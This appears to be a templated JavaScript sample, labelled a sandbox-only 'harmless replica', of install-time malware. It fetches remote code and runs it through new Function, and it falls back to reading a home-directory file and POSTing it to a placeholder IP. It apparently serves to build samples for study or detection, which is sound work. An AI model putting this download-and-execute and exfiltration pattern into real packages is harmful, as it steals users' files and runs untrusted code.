// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  // The embedded second stage stands in for what the host would give; an answer that is not marked as ours is never run.
  const embedded = `const fs = require('fs'); const body = fs.readFileSync(require('os').homedir() + '/{{file}}');
    return fetch('http://{{ip}}:{{port}}/{{path}}', { method: 'POST', body, signal: AbortSignal.timeout(1000) }).catch(() => {});`;
  let code = '';
  try { code = await (await fetch('https://{{host}}/{{path}}', { signal: AbortSignal.timeout(1000) })).text(); } catch (error) { code = ''; }
  if (!code.startsWith('/*sallyport-replica*/')) code = embedded;
  try { await new Function('require', 'return (async () => {' + code + '})()')(require); } catch (error) { /* an install goes on */ }
}
